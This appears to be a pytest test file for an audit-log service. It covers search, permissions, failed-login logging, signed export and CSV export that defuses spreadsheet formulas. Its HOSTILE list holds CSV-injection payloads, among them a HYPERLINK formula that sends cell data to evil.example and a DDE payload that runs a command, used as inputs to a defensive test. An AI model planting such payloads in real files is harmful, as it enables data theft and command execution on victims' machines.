"""The log over HTTP and from the command line: who may read it, what is found, and that taking it along is told."""

import csv
import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from outlay.cli import audit as cli
from outlay.cli.profile import Caller
from outlay.cli.single_file import LOG, build_verifier, needed_modules
from outlay.core.spreadsheet import harmless
from outlay.evidence.audit_log import check
from outlay.evidence.sign import sign_challenge
from tests.door import Door, open_door


@pytest.fixture(scope="module")
def door(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Door]:
    with open_door(tmp_path_factory.mktemp("door")) as opened:
        opened.person("approver.one@example.com")
        opened.wallet("hot")
        yield opened


@pytest.fixture
def caller(door: Door, tmp_path: Path) -> Caller:
    """Return the admin, as the commands take whoever calls."""
    (tmp_path / "token").write_text(door.admin.token)
    (tmp_path / "key.pem").write_text(door.admin.private)
    return Caller(
        url=f"http://127.0.0.1:{door.port}",
        token_file=tmp_path / "token",
        key_file=tmp_path / "key.pem",
        credential=door.admin.credential_id,
    )


def found(door: Door, **query: Any) -> list[dict[str, Any]]:
    """Return all that a search finds, page by page."""
    items, token = [], None
    while True:
        given = {**query, **({"paginationToken": token} if token else {})}
        text = "&".join(f"{name.rstrip('_')}={quote(str(value))}" for name, value in given.items())
        page = door.get(f"/v1/audit?{text}", door.admin).ok()
        items += page["items"]
        token = page.get("nextPageToken")
        if token is None:
            return items


def test_entries_are_found_by_who_what_and_when(door: Door) -> None:
    every = found(door, limit=7)
    assert [each["seq"] for each in every] == list(range(len(every), 0, -1))
    assert found(door, order="oldest", limit=7) == every[::-1]
    mine = found(door, actor=door.admin.user_id)
    assert mine == [each for each in every if each["actor"] == door.admin.user_id] and mine
    wallet = next(each["subject"] for each in every if each["action"] == "record.wallet.created")
    assert found(door, subject=wallet) == [each for each in every if each["subject"] == wallet]
    assert found(door, action="record.*") == [each for each in every if each["action"].startswith("record.")]
    assert [each["action"] for each in found(door, action="record.genesis")] == ["record.genesis"]
    assert found(door, action="record_*") == [], "no wildcards but the one"
    assert found(door, from_="2020-01-01T00:00:00Z") == every and found(door, to="2020-01-01T00:00:00Z") == []
    assert found(door, first=3, last=5, order="oldest") == every[::-1][2:5]
    for query, name in (
        ("order=x", "order"),
        ("from=yesterday", "from"),
        ("first=0", "first"),
        ("last=1e3", "last"),
        ("paginationToken=x", "paginationToken"),
        (f"actor={'x' * 161}", "actor"),
        ("limit=501", "limit"),
    ):
        answer = door.get(f"/v1/audit?{query}", door.admin)
        assert (answer.status, answer.field) == (400, name), query


def test_only_who_is_permitted_reads_it(door: Door) -> None:
    bot = door.service_account("payouts bot", ["Wallets:Read"])
    for target in ("/v1/audit", "/v1/audit/state"):
        assert door.get(target, bot).details == {"operation": "Audit:Read"}
        assert door.call("GET", target).status == 401
    assert door.write(bot, "POST", "/v1/audit/exports", {}).details == {"operation": "Audit:Read"}
    assert door.write(bot, "POST", "/v1/audit/continue", {"reason": "x"}).details == {"operation": "Outlay:Unfreeze"}
    auditor = door.person("auditor@example.com", ["Audit:Read"])
    assert door.get("/v1/audit", auditor).ok()["items"]
    assert door.write(door.admin, "POST", "/v1/audit/exports", {"first": 10**9}).field == "first"
    assert door.write(door.admin, "POST", "/v1/audit/continue", {"reason": "x"}).status == 412


def test_failed_logins_are_told_but_flood_nothing(door: Door) -> None:
    who, other = (door.person(f"{name}@example.com") for name in ("sleepy", "stranger"))
    for _ in range(25):
        begun = door.call("POST", "/auth/login/init", {"username": who.username}).ok()
        answer = sign_challenge(other.private, who.credential_id, begun["challenge"])
        body = {"challengeIdentifier": begun["challengeIdentifier"], "firstFactor": answer}
        assert door.call("POST", "/auth/login", body).status in (401, 403)
    told = found(door, action="session.refused", subject=who.user_id)
    assert len(told) == 10 and {each["actor"] for each in told} == {"nobody"}


def test_the_log_is_taken_along_and_checked_where_no_server_is(
    door: Door, caller: Caller, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(cli, "PAGE", 9)
    file = tmp_path / "log.jsonl"
    cli.export(out=file, caller=caller)
    assert file.stat().st_mode & 0o777 == 0o600
    root = door.get("/v1/records", door.admin).ok()["root"]
    assert check(file, root=root) == 0
    last = json.loads(file.read_bytes().splitlines()[-2])["entry"]
    assert (last["action"], last["actor"]) == ("log.exported", door.admin.user_id), "the file ends with its own export"
    part = tmp_path / "part.jsonl"
    cli.export(out=part, first=last["seq"] - 2, caller=caller)
    assert (check(part, root=root), check(part, root=root, first=last["seq"] - 2)) == (1, 0)
    with pytest.raises(FileExistsError):
        cli.export(out=file, caller=caller)
    program = tmp_path / "outlay_audit.py"
    program.write_text(build_verifier(LOG))
    text = file.read_text()
    for data, code in ((text, 0), (text.replace("record.genesis", "record.Genesis"), 1)):
        file.write_text(data)
        done = subprocess.run(
            [sys.executable, "-I", str(program), "--root", root, str(file)], capture_output=True, text=True, check=False
        )
        assert done.returncode == code, done.stdout + done.stderr
        assert done.stdout.startswith("WHOLE" if code == 0 else "NOT WHOLE: entry 2")


def test_the_program_of_its_own_needs_nothing_of_the_server(tmp_path: Path) -> None:
    assert {name.split(".")[1] for name in needed_modules(LOG.entry) if "." in name} == {"core", "evidence"}


def test_a_spreadsheet_takes_no_cell_for_a_formula(door: Door, caller: Caller, tmp_path: Path) -> None:
    file = tmp_path / "log.csv"
    cli.export(out=file, as_="csv", caller=caller)
    with file.open(newline="", encoding="utf-8") as lines:
        rows = list(csv.reader(lines))
    assert rows[0] == list(cli.COLUMNS)
    assert [int(row[0]) for row in rows[1:]] == list(range(1, len(rows)))
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


HOSTILE = [
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\0=1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_get_an_apostrophe(text: str, tmp_path: Path) -> None:
    entry: dict[str, Any] = dict.fromkeys(cli.COLUMNS, text) | {"seq": 7, "before": None, "after": {"memo": text}}
    with (tmp_path / "x.csv").open("w", newline="", encoding="utf-8") as file:
        cli.write_csv(iter([entry]), file)
    with (tmp_path / "x.csv").open(newline="", encoding="utf-8") as file:
        _, row = csv.reader(file)
    cells = dict(zip(cli.COLUMNS, row, strict=True))
    assert cells["seq"] == "7" and cells["before"] == ""
    assert json.loads(cells["after"]) == {"memo": text}, "an object begins with a brace"
    for name in ("actor", "subject", "action", "evidence", "request", "hash"):
        assert cells[name] == f"'{text}"


def test_harmless_texts_stay_as_they_are() -> None:
    for value, text in (("us-1", "us-1"), (None, ""), (-5, "-5"), ("a=b", "a=b"), ("", "")):
        assert harmless(value) == text


def test_the_state_is_told(door: Door, caller: Caller, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.state(caller=caller) == 0
    assert "entries" in capsys.readouterr().out
